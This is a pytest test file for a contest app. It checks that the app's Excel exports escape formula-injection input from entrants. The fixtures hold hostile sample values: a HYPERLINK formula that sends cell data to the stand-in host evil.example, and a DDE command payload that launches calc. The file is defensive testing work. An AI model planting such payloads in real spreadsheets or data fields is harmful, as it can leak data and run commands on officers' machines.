"""Contest exports never hand an officer's spreadsheet a formula typed by an entrant."""

import io

import openpyxl
import pytest

import contests.office_hooks  # noqa: F401  (registers the admin views until wagtail_hooks does)
from common.spreadsheets import PLAIN_NUMBER
from contests import ranking
from contests.models import Participant
from tests.contests.factories import AttemptFactory, ClosedRoundFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def assert_no_formula(content):
    cells = text_cells(content)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [
        c.value
        for c in cells
        if c.value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c.value)
    ]
    assert "'" + HOSTILE in [c.value for c in cells]


@pytest.fixture
def hostile_round(tree):
    round_ = ClosedRoundFactory()
    participant = ParticipantFactory(
        contest=round_.contest,
        full_name=HOSTILE,
        phone="+84912345678",
        commune=tree.thuong_lam,
        school_or_workplace="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    AttemptFactory(round=round_, participant=participant, score=5, all_correct=True)
    ranking.rank_round(round_.pk)
    return round_


def test_the_results_export_writes_a_hostile_name_as_text(hostile_round, admin_client):
    response = admin_client.get(f"/admin/contests/results/{hostile_round.pk}.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.content)


def test_the_personal_data_copy_writes_a_hostile_name_as_text(hostile_round, admin_client):
    participant = Participant.objects.get(phone="+84912345678")
    response = admin_client.get(f"/admin/contests/personal-data/{participant.pk}.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.content)
